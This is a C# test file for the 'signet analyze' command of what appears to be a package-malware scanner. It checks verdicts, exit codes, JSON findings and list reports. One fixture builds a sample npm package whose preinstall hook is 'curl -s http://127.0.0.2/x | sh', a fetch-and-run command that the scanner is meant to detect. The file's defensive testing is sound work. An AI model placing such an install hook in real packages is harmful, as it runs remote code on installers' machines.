using System.Text.Json;
using Signet.Analysis.Tests.Samples;
using Signet.Testing.Processes;

namespace Signet.Analysis.Tests.Cli;

/// <summary><c>signet analyze</c> in-process: output forms, exit codes (0 / 1 / 2 / 3), --fail-on, --list.</summary>
public sealed class AnalyzeCommandTests : IDisposable
{
    private readonly DirectoryInfo _dir = Directory.CreateTempSubdirectory("signet-analyze-cli-");

    public void Dispose() => _dir.Delete(recursive: true);

    private static (int Exit, string Out, string Err) Run(params string[] args)
    {
        using var output = new StringWriter();
        using var error = new StringWriter();
        var exit = Signet.Cli.Program.Run(["analyze", .. args], output, error);
        return (exit, output.ToString(), error.ToString());
    }

    private string Benign() => SamplePackage.Npm("quiet-sample").File("index.js", "module.exports = 1;").WriteTo(_dir.FullName);

    private string Malicious() => SamplePackage.Npm("loud-sample", scripts: "{\"preinstall\": \"curl -s http://127.0.0.2/x | sh\"}").WriteTo(_dir.FullName);

    private string MediumOnly() => SamplePackage.Npm("hook-sample", scripts: "{\"postinstall\": \"node done.js\"}").File("done.js", "console.log('done')").WriteTo(_dir.FullName);

    [Fact]
    public void A_benign_package_exits_zero_with_a_verdict_line()
    {
        var (exit, output, _) = Run(Benign());
        Assert.Equal(0, exit);
        Assert.StartsWith("npm:quiet-sample@1.0.0  verdict: benign", output);
    }

    [Fact]
    public void A_malicious_package_exits_one_and_its_json_names_each_finding()
    {
        var (exit, output, _) = Run(Malicious(), "--json");
        Assert.Equal(1, exit);
        using var doc = JsonDocument.Parse(output);
        var root = doc.RootElement;
        Assert.Equal("malicious", root.GetProperty("verdict").GetString());
        Assert.Equal("npm", root.GetProperty("package").GetProperty("ecosystem").GetString());
        var finding = root.GetProperty("findings").EnumerateArray().First(f => f.GetProperty("rule").GetString() == Rules.DownloadExec);
        Assert.Equal("high", finding.GetProperty("severity").GetString());
        Assert.Equal("package/package.json", finding.GetProperty("file").GetString());
        Assert.Contains("| sh", finding.GetProperty("evidence").GetString());
        Assert.Equal("unsupported", root.GetProperty("provenance").GetProperty("status").GetString());
    }

    [Fact]
    public void Fail_on_sets_the_threshold()
    {
        var medium = MediumOnly();
        Assert.Equal(0, Run(medium).Exit);
        Assert.Equal(1, Run(medium, "--fail-on", "medium").Exit);
        Assert.Equal(1, Run(medium, "--fail-on", "low").Exit);
        Assert.Equal(0, Run(Benign(), "--fail-on", "low").Exit);
    }

    [Fact]
    public void Invalid_input_exits_three_with_one_line()
    {
        var bad = Path.Combine(_dir.FullName, "bad.tgz");
        File.WriteAllText(bad, "not a package");
        var (exit, _, error) = Run(bad);
        Assert.Equal(3, exit);
        Assert.Single(error.Trim().Split('\n'));
        Assert.StartsWith("signet analyze: ", error);
        Assert.Equal(3, Run(Path.Combine(_dir.FullName, "missing.tgz")).Exit);
        Assert.Equal(3, Run("npm:no-version").Exit);
    }

    [Fact]
    public void Dynamic_analysis_of_a_NuGet_package_is_refused_in_one_line()
    {
        var (exit, _, error) = Run(SamplePackage.NuGet().WriteTo(_dir.FullName), "--dynamic");
        Assert.Equal(3, exit);
        Assert.Contains("npm and PyPI", error);
    }

    [Theory]
    [InlineData("nonsense")] // was UriFormatException: exit 70
    [InlineData("ftp://registry.example/")]
    public void A_registry_from_the_environment_that_is_not_an_http_url_is_invalid_input(string registry)
    {
        // A process of its own: the variable is process-wide.
        var r = SignetProcess.Run(
            ["analyze", "npm:left-pad@1.3.0"], workingDirectory: null, environment: new Dictionary<string, string> { ["npm_config_registry"] = registry }, stdin: null);

        Assert.True(r.ExitCode == 3, $"exit {r.ExitCode}: {r.StdErr}");
        Assert.Equal($"signet analyze: invalid input: npm_config_registry '{registry}' is not an http(s) URL", r.StdErr.Trim());
    }

    [Fact]
    public void A_wrong_command_line_is_a_usage_error()
    {
        Assert.Equal(2, Run().Exit);
        Assert.Equal(2, Run(Benign(), "--fail-on", "critical").Exit);
        Assert.Equal(2, Run("--list", "x.txt").Exit);
    }

    [Fact]
    public void List_writes_one_report_per_package_and_a_summary()
    {
        var list = Path.Combine(_dir.FullName, "list.txt");
        var broken = Path.Combine(_dir.FullName, "broken.nupkg");
        File.WriteAllText(broken, "nope");
        File.WriteAllText(list, $"# packages to vet\n{Benign()}\n{Malicious()}\n\n{broken}\n");
        var outDir = Path.Combine(_dir.FullName, "out");
        var (exit, output, _) = Run("--list", list, "--out", outDir);
        Assert.Equal(1, exit);
        Assert.True(File.Exists(Path.Combine(outDir, "npm-quiet-sample-1.0.0.json")));
        using (var doc = JsonDocument.Parse(File.ReadAllText(Path.Combine(outDir, "npm-loud-sample-1.0.0.json"))))
        {
            Assert.Equal("malicious", doc.RootElement.GetProperty("verdict").GetString());
        }

        var tsv = File.ReadAllLines(Path.Combine(outDir, "summary.tsv"));
        Assert.Equal(4, tsv.Length);
        Assert.Contains("\tbenign\t", tsv[1]);
        Assert.Contains("\tmalicious\t", tsv[2]);
        Assert.Contains("\terror\t", tsv[3]);
        Assert.Contains("| npm:loud-sample@1.0.0 | malicious |", output);
    }
}
